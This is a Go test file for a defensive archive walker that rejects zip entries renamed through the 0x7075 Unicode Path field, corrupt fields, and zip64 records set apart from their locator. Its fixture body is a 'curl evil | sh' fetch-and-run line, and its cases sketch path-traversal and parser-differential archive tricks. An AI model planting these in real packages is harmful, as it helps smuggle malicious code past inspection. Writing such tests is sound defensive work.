package archive

import (
	"errors"
	"hash/crc32"
	"slices"
	"strings"
	"testing"

	"github.com/dragonfly-fleet/fleet/clip"
)

// The names the walk gives zip entries must be those pip installs them
// under: the Info-ZIP Unicode Path extra field (0x7075), which Python's
// zipfile applies since 3.12, and directories ("/" only, never "\").

// upathField is an Info-ZIP Unicode Path extra field (0x7075) with its
// header: version, CRC-32 and UTF-8 name, as given.
func upathField(version byte, crc uint32, name string) []byte {
	body := []byte{version}
	body = le.AppendUint32(body, crc)
	body = append(body, name...)
	return rawExtra(extraUnicodePath, body)
}

// upathFor is the field Python 3.12+ applies to an entry whose stored name
// bytes are raw: version 1, the CRC-32 of raw.
func upathFor(raw, name string) []byte {
	return upathField(1, crc32.ChecksumIEEE([]byte(raw)), name)
}

// rawExtra is one extra field: id, length, body.
func rawExtra(id uint16, body []byte) []byte {
	b := le.AppendUint16(nil, id)
	b = le.AppendUint16(b, uint16(len(body)))
	return append(b, body...)
}

const evilBody = "import os; os.system('curl evil | sh')\n"

// TestZipUnicodePathNamesAnotherPath: an entry that Python 3.12+ names from
// its 0x7075 field, under another path (or kind) than the stored name,
// fails the walk before anything is read, naming both names.
func TestZipUnicodePathNamesAnotherPath(t *testing.T) {
	tests := []struct {
		name  string
		ent   zipEnt
		other string // the 0x7075 name the message must show
	}{
		{"readme.txt named evil.py", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodDeflate,
			Extra: upathFor("pkg/readme.txt", "pkg/evil.py")}, "pkg/evil.py"},
		{"stored entry", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/readme.txt", "pkg/evil.py")}, "pkg/evil.py"},
		{"after a zip64 field", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodDeflate, Zip64: true,
			Extra: upathFor("pkg/readme.txt", "pkg/evil.py")}, "pkg/evil.py"},
		{"after an unknown field", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
			Extra: slices.Concat(rawExtra(0x5455, []byte{1, 0, 0, 0, 0}), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
		{"the last field applies", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
			Extra: slices.Concat(upathFor("pkg/readme.txt", "pkg/readme.txt"), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
		{"directory named a file", zipEnt{Name: "pkg/evil.py/", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/evil.py/", "pkg/evil.py")}, "pkg/evil.py"},
		{"directory named another file", zipEnt{Name: "pkg/", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/", "pkg/evil.py")}, "pkg/evil.py"},
		{"file named a directory", zipEnt{Name: "pkg/x", Body: "", Method: methodStore,
			Extra: upathFor("pkg/x", "pkg/x/")}, "pkg/x/"},
		{"unsafe unicode name", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/readme.txt", "../../evil.py")}, "../../evil.py"},
		{"unicode name cut at NUL", zipEnt{Name: "pkg/evil.py", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/evil.py", "pkg/evil\x00.py")}, `"pkg/evil\x00.py"`},
		{"CP437 stored name", zipEnt{Name: "pkg/\x82.txt", Body: evilBody, Method: methodStore,
			Extra: upathFor("pkg/\x82.txt", "pkg/é.py")}, "pkg/é.py"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			data := buildZip(t, zipOpts{},
				zipEnt{Name: "pkg/__init__.py", Body: "", Method: methodStore},
				tc.ent)
			r := walk(t, data, "pkg-1.0-py3-none-any.whl", noLimits)
			if r.Err == nil {
				t.Fatalf("walk succeeded with files %s; want the 0x7075 name %q refused", quoteFiles(r.Files), tc.other)
			}
			e := as[*Error](t, r.Err)
			wantPath := zipName([]byte(tc.ent.Name), tc.ent.Flags)
			if !errors.Is(r.Err, errUnicodePath) || e.Path != wantPath {
				t.Errorf("error %v (path %q), want %v for %q", r.Err, e.Path, errUnicodePath, wantPath)
			}
			msg := r.Err.Error()
			if !strings.Contains(msg, clip.Path(wantPath)) || !strings.Contains(msg, tc.other) || strings.ContainsAny(msg, "\n\r") {
				t.Errorf("message %q: want one line naming %q and %q", msg, wantPath, tc.other)
			}
			if len(r.Files) != 0 || r.Allocs != 0 {
				t.Errorf("emitted %s (%d buffers): the directory is checked first", quoteFiles(r.Files), r.Allocs)
			}
		})
	}
}

// TestZipUnicodePathMessageBounded: a 0x7075 name of 64 KiB with control
// characters makes a one-line message of bounded length.
func TestZipUnicodePathMessageBounded(t *testing.T) {
	long := "pkg/" + strings.Repeat("evil\n", 13000) + ".py"
	data := buildZip(t, zipOpts{},
		zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore, Extra: upathFor("pkg/readme.txt", long)})
	r := walk(t, data, "x.whl", noLimits)
	if !errors.Is(r.Err, errUnicodePath) {
		t.Fatalf("error %v, want %v", r.Err, errUnicodePath)
	}
	msg := r.Err.Error()
	if len(msg) > 2*clip.Default+64 || strings.ContainsAny(msg, "\n\r") || !strings.HasPrefix(msg, "pkg/readme.txt: ") {
		t.Errorf("message of %d bytes, want one line of at most about %d naming pkg/readme.txt: %.200q", len(msg), 2*clip.Default, msg)
	}
}

// TestZipUnicodePathSameName: a 0x7075 field that Python applies but that
// names the same path (after the walk's cleaning), and a field Python
// ignores (another version, a CRC-32 that is not the stored name's, an
// empty name), change nothing: the entry is walked under its stored name.
// These cases pass before the fix too: they guard against false alarms.
func TestZipUnicodePathSameName(t *testing.T) {
	const raw = "pkg/readme.txt"
	rawCRC := crc32.ChecksumIEEE([]byte(raw))
	tests := []struct {
		name string
		ent  zipEnt
		want string
	}{
		{"same name", zipEnt{Name: raw, Extra: upathFor(raw, raw)}, raw},
		{"same path once cleaned", zipEnt{Name: raw, Extra: upathFor(raw, "./pkg//readme.txt")}, raw},
		{"same path, backslashes", zipEnt{Name: raw, Extra: upathFor(raw, `pkg\readme.txt`)}, raw},
		{"CP437 name spelled in UTF-8", zipEnt{Name: "pkg/caf\x82.py", Extra: upathFor("pkg/caf\x82.py", "pkg/café.py")}, "pkg/café.py"},
		{"UTF-8 flag and same name", zipEnt{Name: "pkg/café.py", Flags: flagUTF8, Extra: upathFor("pkg/café.py", "pkg/café.py")}, "pkg/café.py"},
		{"a later field names the stored path", zipEnt{Name: raw,
			Extra: slices.Concat(upathFor(raw, "pkg/evil.py"), upathFor(raw, raw))}, raw},
		{"wrong CRC-32", zipEnt{Name: raw, Extra: upathField(1, rawCRC^1, "pkg/evil.py")}, raw},
		{"CRC-32 of the decoded, not the stored, name", zipEnt{Name: "pkg/\x82.txt",
			Extra: upathField(1, crc32.ChecksumIEEE([]byte("pkg/é.txt")), "pkg/evil.py")}, "pkg/é.txt"},
		{"version 2", zipEnt{Name: raw, Extra: upathField(2, rawCRC, "pkg/evil.py")}, raw},
		{"version 0", zipEnt{Name: raw, Extra: upathField(0, rawCRC, "pkg/evil.py")}, raw},
		{"version 2, invalid UTF-8", zipEnt{Name: raw, Extra: upathField(2, rawCRC, "pkg/\xff.py")}, raw},
		{"wrong CRC-32, invalid UTF-8", zipEnt{Name: raw, Extra: upathField(1, rawCRC+1, "pkg/\xff.py")}, raw},
		{"empty name (Python warns and keeps the stored one)", zipEnt{Name: raw, Extra: upathFor(raw, "")}, raw},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ent := tc.ent
			ent.Body, ent.Method = evilBody, methodDeflate
			data := buildZip(t, zipOpts{}, ent)
			r := walk(t, data, "x.whl", noLimits)
			if r.Err != nil {
				t.Fatalf("error %v", r.Err)
			}
			want := []file{{tc.want, evilBody}}
			if quoteFiles(r.Files) != quoteFiles(want) {
				t.Errorf("files %s, want %s", quoteFiles(r.Files), quoteFiles(want))
			}
		})
	}
}

// TestZipUnicodePathCorrupt: a 0x7075 field that Python's zipfile refuses
// (struct.error on fewer than 5 bytes, whatever the version; invalid UTF-8
// in a field that applies) fails the walk, as it fails pip on 3.12+.
func TestZipUnicodePathCorrupt(t *testing.T) {
	const raw = "pkg/readme.txt"
	rawCRC := crc32.ChecksumIEEE([]byte(raw))
	crcBytes := le.AppendUint32(nil, rawCRC)
	tests := []struct {
		name  string
		extra []byte
		utf8  bool // the invalid UTF-8 case
	}{
		{"empty field", rawExtra(extraUnicodePath, nil), false},
		{"version only", rawExtra(extraUnicodePath, []byte{1}), false},
		{"CRC-32 cut", rawExtra(extraUnicodePath, append([]byte{1}, crcBytes[:3]...)), false},
		{"version 2, CRC-32 cut", rawExtra(extraUnicodePath, []byte{2, 0, 0}), false},
		{"cut field after a valid one", slices.Concat(upathFor(raw, raw), rawExtra(extraUnicodePath, []byte{1, 2, 3, 4})), false},
		{"invalid UTF-8", upathFor(raw, "pkg/\xffevil.py"), true},
		{"UTF-8 surrogate", upathFor(raw, "pkg/\xed\xa0\x80.py"), true},
		{"UTF-8 cut in a rune", upathFor(raw, "pkg/caf\xc3"), true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			data := buildZip(t, zipOpts{},
				zipEnt{Name: raw, Body: evilBody, Method: methodStore, Extra: tc.extra})
			r := walk(t, data, "x.whl", noLimits)
			if r.Err == nil {
				t.Fatalf("walk succeeded with files %s; want a corrupt 0x7075 field refused", quoteFiles(r.Files))
			}
			e := as[*Error](t, r.Err)
			if !errors.Is(r.Err, errCorruptUnicode) || e.Path != raw {
				t.Errorf("error %v (path %q), want %v for %q", r.Err, e.Path, errCorruptUnicode, raw)
			}
			if got := strings.Contains(r.Err.Error(), "invalid utf-8"); got != tc.utf8 {
				t.Errorf("message %q: mentions invalid utf-8 %v, want %v", r.Err, got, tc.utf8)
			}
			if len(r.Files) != 0 || r.Allocs != 0 {
				t.Errorf("emitted %s (%d buffers): the directory is checked first", quoteFiles(r.Files), r.Allocs)
			}
		})
	}
}

// TestZipBackslashNameIsAFile: only a trailing "/" makes a zip entry a
// directory (ZipInfo.is_dir and pip on Linux); pip writes an entry whose
// name ends in "\" as a file, so the walk emits it, under its cleaned path,
// with its content.
func TestZipBackslashNameIsAFile(t *testing.T) {
	tests := []struct {
		name  string
		ents  []zipEnt
		files []file
		st    Stats
	}{
		{"trailing backslash, stored", []zipEnt{
			{Name: `pkg/payload\`, Body: evilBody, Method: methodStore},
		}, []file{{"pkg/payload", evilBody}}, Stats{Format: Zip, Entries: 1, Files: 1, Expanded: int64(len(evilBody))}},
		{"trailing backslash, deflate, among dirs", []zipEnt{
			{Name: "pkg/"},
			{Name: `pkg\evil.py\`, Body: evilBody, Method: methodDeflate},
			{Name: "pkg/sub/"},
		}, []file{{"pkg/evil.py", evilBody}}, Stats{Format: Zip, Entries: 3, Files: 1, Expanded: int64(len(evilBody))}},
		{"trailing backslash before a NUL", []zipEnt{
			{Name: "pkg/x\\\x00/", Body: "after nul", Method: methodStore},
			{Name: "pkg/d/\x00\\"}, // a directory: "pkg/d/" once cut
		}, []file{{"pkg/x", "after nul"}}, Stats{Format: Zip, Entries: 2, Files: 1, Expanded: 9}},
		{"empty file ending in a backslash", []zipEnt{
			{Name: `pkg\empty\`},
			{Name: "pkg/a.py", Body: "a", Method: methodStore},
		}, []file{{"pkg/empty", ""}, {"pkg/a.py", "a"}}, Stats{Format: Zip, Entries: 2, Files: 2, Expanded: 1}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := walk(t, buildZip(t, zipOpts{}, tc.ents...), "x.whl", noLimits)
			if r.Err != nil {
				t.Fatalf("error %v", r.Err)
			}
			if quoteFiles(r.Files) != quoteFiles(tc.files) {
				t.Errorf("files %s, want %s", quoteFiles(r.Files), quoteFiles(tc.files))
			}
			if r.Stats != tc.st {
				t.Errorf("stats %+v, want %+v", r.Stats, tc.st)
			}
		})
	}
}

// TestZip64RecordApartFromLocator: a zip64 locator naming an end record
// that is not right before it ("extensible data" between): Pythons with
// the CVE-2025-8291 fix read that record, older ones (and the walk) the
// 32-bit directory, so a decoy directory could give them different files.
// It fails, also behind other bytes; a zip64 zip whose record sits right
// before its locator walks as before.
func TestZip64RecordApartFromLocator(t *testing.T) {
	ok := buildZip(t, zipOpts{Zip64: true}, zipEnt{Name: "a.py", Body: "A", Method: methodStore})
	if r := walk(t, ok, "z.whl", noLimits); r.Err != nil || len(r.Files) != 1 {
		t.Fatalf("zip64: files %s, err %v", quoteFiles(r.Files), r.Err)
	}
	// Move the zip64 end record 8 bytes back, into 8 bytes of extensible
	// data, and point the locator at it.
	eocd := len(ok) - 22
	rec := eocd - 20 - 56
	apart := slices.Concat(ok[:rec], make([]byte, 8), ok[rec:rec+56], ok[rec+56:])
	copy(apart[rec:rec+56], ok[rec:rec+56])
	clear(apart[rec+56 : rec+64])
	le.PutUint64(apart[rec+64+8:], uint64(rec)) // the locator's record offset
	// A 32-bit end record that older readers take as it is (a decoy could
	// name another directory here).
	end := apart[len(apart)-22:]
	le.PutUint16(end[8:], 1)
	le.PutUint16(end[10:], 1)
	le.PutUint32(end[12:], uint32(le.Uint64(ok[rec+40:])))
	le.PutUint32(end[16:], uint32(le.Uint64(ok[rec+48:])))
	// Behind other bytes, a newer Python seeks the locator's offset in the
	// file: a crafted one names the record's place there.
	prefix := []byte("#!/bin/sh\nexit 0\n")
	behind := slices.Concat(prefix, apart)
	le.PutUint64(behind[len(prefix)+rec+64+8:], uint64(len(prefix)+rec))
	for _, data := range [][]byte{apart, behind} {
		r := walk(t, data, "z.whl", noLimits)
		if !errors.Is(r.Err, errZip64Apart) {
			t.Fatalf("%d bytes: files %s, err %v; want errZip64Apart", len(data), quoteFiles(r.Files), r.Err)
		}
	}
}
